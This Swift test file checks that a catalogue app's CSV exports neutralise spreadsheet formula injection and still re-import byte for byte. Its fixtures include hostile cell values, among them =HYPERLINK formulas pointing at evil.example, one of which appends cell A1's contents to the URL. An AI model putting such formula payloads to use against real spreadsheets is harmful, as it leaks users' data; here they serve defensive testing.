import Foundation
import Testing
@testable import TernCatalogue

/// A CSV cell that would open as a spreadsheet formula is written with a `'` in front, and the
/// import takes it off again: exports are safe to open and still re-import byte for byte.
@Suite struct SpreadsheetCellTests {
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\r\ny", "=",
        "'=already quoted", "''", "'", "''x", "'-5", "'\t", "'Tis the season", "a=b", "é=", "",
    ]

    @Test func everyCellComesBackExactlyAndNoneStartsAFormula() {
        for cell in Self.hostile {
            let written = SpreadsheetCell.neutralised(cell)
            #expect(Array(SpreadsheetCell.restored(written).utf8) == Array(cell.utf8), "\(cell.debugDescription)")
            if let first = written.unicodeScalars.first {
                #expect(!SpreadsheetCell.formulaStarts.contains(first), "\(written.debugDescription)")
            }
        }
        #expect(SpreadsheetCell.neutralised("=1") == "'=1")
        #expect(SpreadsheetCell.neutralised("'=1") == "''=1")
        #expect(SpreadsheetCell.neutralised("''") == "'''")
        #expect(SpreadsheetCell.neutralised("'Tis") == "'Tis")
        #expect(SpreadsheetCell.neutralised("'") == "'")
    }

    @Test func aListingsExportIsSafeToOpenAndReimportsByteForByte() throws {
        let source = try CatalogueFixture()
        try source.addListings([
            ["ref": "a", "title": Self.hostile[0], "brief": "-5 degrees", "deliverables": ["@cmd", "'=x", "+1"], "city": "=Paris", "location_kind": "on_site"],
            ["ref": "b", "title": "'Tis the season", "brief": "''=x", "organization": "=Acme"],
        ])
        let csv = try ExactRoundTripTests.exported(source, .opportunities, .csv)
        #expect(csv.contains("\n\"a,'=HYPERLINK") || csv.contains("\na,\"'=HYPERLINK"), "\(csv)")
        #expect(csv.contains(",'-5 degrees,"))
        #expect(csv.contains(",'=Paris,"))
        #expect(csv.contains("b,'Tis the season,'=Acme,"))
        #expect(csv.contains(",'''=x,"))
        Self.expectNoFormulaCells(csv)
        let target = try CatalogueFixture()
        _ = try target.catalogue.importApproved(Data(csv.utf8), format: .csv)
        for ref in ["a", "b"] {
            #expect(try ExactRoundTripTests.stored(target, listing: ref) == ExactRoundTripTests.stored(source, listing: ref), "\(ref)")
        }
        #expect(try ExactRoundTripTests.exported(target, .opportunities, .csv) == csv)
    }

    @Test func aCoverNoteFormulaIsNeutralisedInTheApplicationsExport() throws {
        let source = try CatalogueFixture()
        try source.addListings([["ref": "a"]])
        try source.addStudent("ana")
        let note = "=HYPERLINK(\"http://evil.example/\",\"cv\")"
        _ = try source.catalogue.apply(as: "ana", to: try source.listingID("a"), coverNote: note, hoursOffered: 5)
        let csv = try ExactRoundTripTests.exported(source, .applications, .csv)
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"cv\"\")\""), "\(csv)")
        Self.expectNoFormulaCells(csv)
        let target = try CatalogueFixture()
        try target.addListings([["ref": "a"]])
        try target.addStudent("ana")
        _ = try target.catalogue.importApproved(Data(csv.utf8), format: .csv)
        let imported = try #require(try target.catalogue.application(ofStudent: "ana", to: try target.listingID("a")))
        #expect(Array(imported.coverNote.utf8) == Array(note.utf8))
    }

    /// A file written by hand follows the same rule: `'=1` is the text `=1`; `'Tis` keeps its `'`.
    @Test func aHandWrittenFileUsesTheSameEscape() throws {
        let fixture = try CatalogueFixture()
        let csv = "ref,title,organization,field,hours,duration_days,deadline,compensation_kind,location_kind\n"
            + "a,'=1+2,Acme,design,10,5,2099-01-01,unpaid,remote\n"
            + "b,'Tis,Acme,design,10,5,2099-01-01,unpaid,remote\n"
        _ = try fixture.catalogue.importApproved(Data(csv.utf8), format: .csv)
        #expect(try fixture.catalogue.opportunity(ref: "a")?.title == "=1+2")
        #expect(try fixture.catalogue.opportunity(ref: "b")?.title == "'Tis")
    }

    /// No cell of `csv`, as a spreadsheet reads it, starts with a character it takes for a
    /// formula: the first character of every field, inside its quotes when quoted.
    static func expectNoFormulaCells(_ csv: String) {
        let scalars = Array(csv.unicodeScalars)
        var quoted = false
        var fieldStart = true
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            if fieldStart {
                fieldStart = false
                let first = scalar == "\"" && index + 1 < scalars.count ? scalars[index + 1] : scalar
                #expect(!SpreadsheetCell.formulaStarts.contains(first) || (scalar == "\"" && first == "\""),
                        "a cell starts with \(first.escaped(asASCII: true)) at \(index)")
            }
            if scalar == "\"" { quoted.toggle() }
            if !quoted && (scalar == "," || scalar == "\n") { fieldStart = true }
            index += 1
        }
    }
}
